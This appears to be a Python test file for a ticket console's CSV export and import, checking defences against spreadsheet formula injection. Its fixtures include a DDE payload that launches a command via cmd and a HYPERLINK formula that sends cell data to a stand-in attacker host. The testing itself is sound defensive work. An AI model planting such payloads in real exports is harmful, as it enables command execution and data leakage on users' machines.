"""CSV export and import of cells a spreadsheet would run as a formula (OWASP "CSV
injection"): the export writes them with a leading ``'``, the import takes exactly it away."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from console.adapters.fake import FakeStore, FakeUnitOfWork
from console.domain.model import Agent, Customer, Role
from console.domain.policy import load_policies
from console.services.tickets import PolicyBook
from console.services.transfer import (
    FORMULA_STARTS,
    cell_text,
    export_tickets,
    import_tickets,
    spreadsheet_cell,
)
from history import open_ticket

NOW = datetime(2025, 6, 2, 12, 0, tzinfo=UTC)
BOOK = PolicyBook(load_policies())
CUSTOMERS = ("Acme", "=Formula Corp", "+Plus", "-Minus", "@home")
AGENTS = ("alice", "=cmd|' /C calc'!A0")


def clock() -> datetime:
    return NOW


def make_store() -> FakeStore:
    store = FakeStore()
    with FakeUnitOfWork(store, now=clock) as uow:
        for name in CUSTOMERS:
            uow.customers.add(Customer(name, "zitadel", "default"))
        for name in AGENTS:
            uow.agents.add(Agent(name, name, Role.AGENT, "emea", "Europe/Berlin"))
        uow.commit()
    return store


def export_text(store: FakeStore) -> str:
    out = io.StringIO(newline="")
    export_tickets(FakeUnitOfWork(store, now=clock), out)
    return out.getvalue()


def import_text(store: FakeStore, text: str) -> int:
    return import_tickets(FakeUnitOfWork(store, now=clock), BOOK, io.StringIO(text, newline=""))


def add(store: FakeStore, key: str, title: str, customer: str, assignee: str | None) -> None:
    open_ticket(
        FakeUnitOfWork(store, now=clock),
        BOOK,
        key=key,
        title=title,
        customer=customer,
        severity=2,
        submitted_at=NOW - timedelta(hours=3),
        assignee=assignee,
    )


def test_a_formula_is_written_as_text_and_read_back_as_it_was() -> None:
    store = make_store()
    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    add(store, "@K-1", title, "=Formula Corp", AGENTS[1])
    text = export_text(store)
    row = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert row[:3] == ["'@K-1", f"'{title}", "'=Formula Corp"]
    assert row[5] == f"'{AGENTS[1]}"
    fresh = make_store()
    assert import_text(fresh, text) == 1
    ticket = fresh.tickets["@K-1"]
    assert (ticket.title, ticket.customer, ticket.assignee) == (title, "=Formula Corp", AGENTS[1])


def test_the_import_takes_away_exactly_one_quote_before_a_formula() -> None:
    store = make_store()
    text = (
        "key,title,customer,severity,submitted_at\n"
        "K-1,'=1+1,Acme,2,2025-06-01T08:00Z\n"
        "K-2,''=1+1,Acme,2,2025-06-01T08:00Z\n"
        "K-3,'quoted,Acme,2,2025-06-01T08:00Z\n"
        "K-4,'-Minus,'-Minus,2,2025-06-01T08:00Z\n"
    )
    assert import_text(store, text) == 4
    titles = {key: t.title for key, t in store.tickets.items()}
    assert titles == {"K-1": "=1+1", "K-2": "'=1+1", "K-3": "'quoted", "K-4": "-Minus"}
    assert store.tickets["K-4"].customer == "-Minus"


@settings(max_examples=2000, deadline=None, derandomize=True)
@given(st.text(st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " "])) | st.text())
def test_every_text_comes_back_and_none_is_run(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert cell_text(cell) == text
    assert not cell.startswith(FORMULA_STARTS)


PREFIXES = ["", "=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "'\t", "=cmd|' /C calc'!A0"]


@st.composite
def titles(draw: st.DrawFn) -> str:
    """A title an import keeps as it is: no control characters but tab, carriage return and
    line feed; trimmed, except for a leading tab or carriage return, which the quote keeps."""
    body = draw(
        st.text(
            st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from("\t\r\n'=+-@ "),
            max_size=20,
        )
    )
    title = (draw(st.sampled_from(PREFIXES)) + body).rstrip()
    keeps = title == title.lstrip() or title.lstrip("'").startswith(FORMULA_STARTS)
    return title if title and keeps else "fallback"


@settings(
    max_examples=200, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(
    st.lists(
        st.tuples(
            titles(),
            st.sampled_from(CUSTOMERS),
            st.sampled_from([None, *AGENTS]),
        ),
        min_size=1,
        max_size=5,
    )
)
def test_text_fields_round_trip_and_no_exported_cell_is_a_formula(
    tickets: list[tuple[str, str, str | None]],
) -> None:
    store = make_store()
    for n, (title, customer, assignee) in enumerate(tickets):
        add(store, f"{PREFIXES[n % len(PREFIXES)].strip()}K-{n}", title, customer, assignee)
    text = export_text(store)
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    fresh = make_store()
    assert import_text(fresh, text) == len(tickets)
    fields = {k: (t.title, t.customer, t.assignee) for k, t in fresh.tickets.items()}
    assert fields == {k: (t.title, t.customer, t.assignee) for k, t in store.tickets.items()}
